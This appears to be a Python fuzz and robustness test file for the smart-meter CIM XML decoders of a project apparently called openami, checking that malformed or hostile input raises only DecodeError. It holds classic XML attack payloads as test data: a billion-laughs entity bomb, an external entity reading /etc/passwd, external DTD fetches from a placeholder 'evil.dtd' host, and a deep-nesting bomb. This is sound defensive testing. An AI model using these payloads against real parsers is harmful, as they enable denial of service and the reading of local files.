"""The decoders and ``validate`` raise only ``DecodeError``, whatever bytes they are given:
arbitrary bytes, valid documents with bytes flipped, cut or spliced, random trees of our own
element names, and the classic XML attacks."""

from __future__ import annotations

import contextlib
import copy
import re
import xml.etree.ElementTree as ET
from collections.abc import Callable

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from openami.errors import DecodeError
from openami.protocols import cim
from openami.protocols.cim import end_device_controls, end_device_events, message, meter_readings
from tests.protocols.cim import strategies as cs
from tests.protocols.cim.test_golden import (
    DISCONNECT_REPLY,
    DISCONNECT_REQUEST,
    LAST_GASP,
    METER_READINGS,
)

DECODERS: list[Callable[[bytes], object]] = [
    cim.decode_meter_readings,
    cim.decode_end_device_events,
    cim.decode_request_message,
    cim.decode_response_message,
]
VALID = [METER_READINGS, LAST_GASP, DISCONNECT_REQUEST, DISCONNECT_REPLY]


def only_decode_errors(document: bytes) -> None:
    """Every decoder and every validation either accepts ``document`` or raises DecodeError."""
    for decode in DECODERS:
        with contextlib.suppress(DecodeError):
            decode(document)
    for kind in cim.DocumentKind:
        with contextlib.suppress(DecodeError):
            cim.validate(document, kind)


@given(st.binary(max_size=512))
def test_arbitrary_bytes(document: bytes) -> None:
    only_decode_errors(document)


@given(st.sampled_from(VALID), st.data())
def test_mutated_valid_documents(document: bytes, data: st.DataObject) -> None:
    mutated = bytearray(document)
    for _ in range(data.draw(st.integers(1, 4))):
        if not mutated:
            break
        at = data.draw(st.integers(0, len(mutated) - 1))
        action = data.draw(st.sampled_from(["flip", "delete", "insert", "splice"]))
        if action == "flip":
            mutated[at] = data.draw(st.integers(0, 255))
        elif action == "delete":
            del mutated[at : at + data.draw(st.integers(1, 40))]
        elif action == "insert":
            mutated[at:at] = data.draw(st.binary(min_size=1, max_size=8))
        else:  # repeat a piece of the document elsewhere: duplicated or misplaced elements
            piece = bytes(mutated[at : at + data.draw(st.integers(1, 120))])
            to = data.draw(st.integers(0, len(mutated)))
            mutated[to:to] = piece
    only_decode_errors(bytes(mutated))


@given(cs.meter_readings, st.data())
def test_valid_documents_with_text_replaced(
    document: cim.MeterReadings, data: st.DataObject
) -> None:
    """Swap one text or attribute for hostile values (huge numbers, odd dates, offsets)."""
    tree = ET.fromstring(cim.encode_meter_readings(document))  # noqa: S314 - our own output
    nodes = list(tree.iter())
    node = data.draw(st.sampled_from(nodes))
    hostile = data.draw(
        st.sampled_from(
            [
                "9" * 5000,
                "-9223372036854775809",
                "0001-01-01T00:00:00+14:00",
                "9999-12-31T23:59:59-14:00",
                "2026-02-30T00:00:00Z",
                "2026-01-01T24:00:00Z",
                "2026-01-01T00:00:60Z",
                "2026-01-01T00:00:00+15:00",
                "2026-01-01T00:00:00.1234567Z",
                "١٢٣",  # Arabic-Indic digits: digits to \\d, not to us
                " 12 ",
                "",
            ]
        )
        | st.text(max_size=20)
    )
    if node.get("ref") is not None and data.draw(st.booleans()):
        node.set("ref", hostile)
    else:
        node.text = hostile
    only_decode_errors(ET.tostring(tree, encoding="UTF-8"))


# Random trees built from our own element names: they get past "unknown element" and reach
# every reader with every wrong shape.
_NAMES = sorted(
    {
        "MeterReadings", "MeterReading", "mRID", "IntervalBlocks", "IntervalReadings",
        "timeStamp", "value", "ReadingQualities", "ReadingQualityType", "ReadingType", "Meter",
        "Names", "name", "Readings", "UsagePoint", "EndDeviceEvents", "EndDeviceEvent",
        "createdDateTime", "reason", "Assets", "EndDeviceEventDetails", "EndDeviceEventType",
        "EndDeviceControls", "EndDeviceControl", "scheduledInterval", "start", "end",
        "EndDeviceControlDetails", "EndDeviceControlType", "EndDevices", "RequestMessage",
        "ResponseMessage", "Header", "Verb", "Noun", "Timestamp", "Source", "MessageID",
        "CorrelationID", "Reply", "Result", "Error", "code", "details", "ID", "Payload",
    }
)  # fmt: skip
_NAMESPACES = [
    meter_readings.NAMESPACE,
    end_device_events.NAMESPACE,
    end_device_controls.NAMESPACE,
    message.NAMESPACE,
]
_TEXTS = st.sampled_from(["", "x", "1", "3.26.0.85", "2026-01-01T00:00:00Z", "OK", "create"])


def _leaf() -> st.SearchStrategy[ET.Element]:
    return st.builds(
        _make, st.sampled_from(_NAMESPACES), st.sampled_from(_NAMES), _TEXTS, st.just([])
    )


def _make(namespace: str, name: str, text: str, children: list[ET.Element]) -> ET.Element:
    node = ET.Element(f"{{{namespace}}}{name}")
    node.text = text or None
    if name in {"ReadingType", "ReadingQualityType", "EndDeviceEventType", "EndDeviceControlType"}:
        node.set("ref", text)
    node.extend(children)
    return node


trees = st.recursive(
    _leaf(),
    lambda inner: st.builds(
        _make,
        st.sampled_from(_NAMESPACES),
        st.sampled_from(_NAMES),
        _TEXTS,
        st.lists(inner, max_size=4),
    ),
    max_leaves=30,
)


_ROOTS = [
    (meter_readings.NAMESPACE, "MeterReadings"),
    (end_device_events.NAMESPACE, "EndDeviceEvents"),
    (message.NAMESPACE, "RequestMessage"),
    (message.NAMESPACE, "ResponseMessage"),
]


@settings(suppress_health_check=[HealthCheck.too_slow])
@given(st.sampled_from(_ROOTS), st.lists(trees, max_size=4))
def test_random_trees_of_our_own_names(root: tuple[str, str], children: list[ET.Element]) -> None:
    only_decode_errors(ET.tostring(_make(*root, "", children), encoding="UTF-8"))


_ENCODED = st.one_of(
    cs.meter_readings.map(cim.encode_meter_readings),
    cs.end_device_events.map(cim.encode_end_device_events),
    cs.request_messages.map(cim.encode_request_message),
    cs.response_messages.map(cim.encode_response_message),
)


@settings(suppress_health_check=[HealthCheck.too_slow])
@given(_ENCODED, st.data())
def test_valid_documents_rearranged(document: bytes, data: st.DataObject) -> None:
    """Remove, duplicate, move, swap or rename elements of a valid document."""
    root = ET.fromstring(document)  # noqa: S314 - our own output
    for _ in range(data.draw(st.integers(1, 3))):
        parents = [(p, c) for p in root.iter() for c in p]
        if not parents:
            break
        parent, child = data.draw(st.sampled_from(parents))
        action = data.draw(st.sampled_from(["remove", "duplicate", "move", "swap", "rename"]))
        if action == "remove":
            parent.remove(child)
        elif action == "duplicate":
            parent.insert(list(parent).index(child), copy.deepcopy(child))
        elif action == "move":
            target = data.draw(st.sampled_from([n for n in root.iter() if n is not child]))
            if child not in target.iter():
                parent.remove(child)
                target.insert(data.draw(st.integers(0, len(target))), child)
        elif action == "swap" and len(parent) > 1:
            i, j = data.draw(st.permutations(range(len(parent))))[:2]
            parent[i], parent[j] = parent[j], parent[i]
        else:
            namespace = child.tag[1:].partition("}")[0]
            child.tag = f"{{{namespace}}}{data.draw(st.sampled_from(_NAMES))}"
    only_decode_errors(ET.tostring(root, encoding="UTF-8"))


# --- the classic attacks ---------------------------------------------------------------------

BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [
  <!ENTITY lol "lol">
  <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
  <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
]>
<MeterReadings xmlns="http://openami.org/cim/2026/MeterReadings#">&lol3;</MeterReadings>
"""
EXTERNAL_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]>
<EndDeviceEvents xmlns="http://openami.org/cim/2026/EndDeviceEvents#">&x;</EndDeviceEvents>
"""
EXTERNAL_DTD = b"""<?xml version="1.0"?>
<!DOCTYPE r SYSTEM "http://example.invalid/evil.dtd">
<EndDeviceEvents xmlns="http://openami.org/cim/2026/EndDeviceEvents#"/>
"""
PARAMETER_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE r [<!ENTITY % p SYSTEM "http://example.invalid/p.dtd"> %p;]>
<EndDeviceEvents xmlns="http://openami.org/cim/2026/EndDeviceEvents#"/>
"""
UNDECLARED_ENTITY = (
    b'<EndDeviceEvents xmlns="http://openami.org/cim/2026/EndDeviceEvents#">&x;</EndDeviceEvents>'
)
DEEP = b"<a>" * 100_000 + b"</a>" * 100_000
ODD_NAMESPACE = b'<a:MeterReadings xmlns:a="http://openami.org/}x"/>'


@pytest.mark.parametrize(
    "document",
    [
        BILLION_LAUGHS,
        EXTERNAL_ENTITY,
        EXTERNAL_DTD,
        PARAMETER_ENTITY,
        UNDECLARED_ENTITY,
        DEEP,
        ODD_NAMESPACE,
        b"",
        b"<",
        "<text/>".encode("utf-16"),
        b'<?xml version="1.0" encoding="x-unknown"?><a/>',
        b"<a/><b/>",
    ],
    ids=range(12),
)
def test_hostile_documents_are_refused(document: bytes) -> None:
    for decode in DECODERS:
        with pytest.raises(DecodeError):
            decode(document)
    for kind in cim.DocumentKind:
        with pytest.raises(DecodeError):
            cim.validate(document, kind)


def test_a_doctype_is_refused_by_name() -> None:
    with pytest.raises(DecodeError, match="DOCTYPE"):
        cim.decode_end_device_events(EXTERNAL_DTD)


def test_a_str_is_not_a_document() -> None:
    with pytest.raises(DecodeError):
        cim.decode_meter_readings(METER_READINGS.decode())  # type: ignore[arg-type]


def test_other_prefixes_are_the_same_document() -> None:
    prefixed = re.sub(rb"<(/?)([A-Za-z])", rb"<\1q:\2", METER_READINGS).replace(
        b"xmlns=", b"xmlns:q="
    )
    assert prefixed != METER_READINGS
    assert cim.decode_meter_readings(prefixed) == cim.decode_meter_readings(METER_READINGS)


@pytest.mark.parametrize(
    ("decode", "document", "problem"),
    [
        (cim.decode_meter_readings, METER_READINGS.replace(b">212<", b">212 Wh<"), "integer"),
        (cim.decode_meter_readings, METER_READINGS.replace(b"<Meter>", b"<Meter>oops"), "text"),
        (
            cim.decode_meter_readings,
            METER_READINGS.replace(b"<mRID>read-000001</mRID>", b"<mRID>a</mRID><mRID>b</mRID>"),
            "mRID where Meter belongs",
        ),
        (cim.decode_end_device_events, LAST_GASP.replace(b"03:14:15Z", b"03:14:15"), "offset"),
        (cim.decode_end_device_events, LAST_GASP.replace(b' ref="3.26.0.85"', b""), "ref"),
        (cim.decode_response_message, DISCONNECT_REPLY.replace(b">OK<", b">MAYBE<"), "Result"),
        (cim.decode_request_message, DISCONNECT_REQUEST.replace(b">create<", b">shout<"), "Verb"),
        (
            cim.decode_request_message,
            DISCONNECT_REQUEST.replace(b"m:EndDevices>", b"m:EndDevicez>"),
            "EndDevicez",
        ),
        (cim.decode_request_message, DISCONNECT_REPLY, "not a RequestMessage"),
    ],
)
def test_decode_errors_say_what_is_wrong(
    decode: Callable[[bytes], object], document: bytes, problem: str
) -> None:
    with pytest.raises(DecodeError, match=problem):
        decode(document)
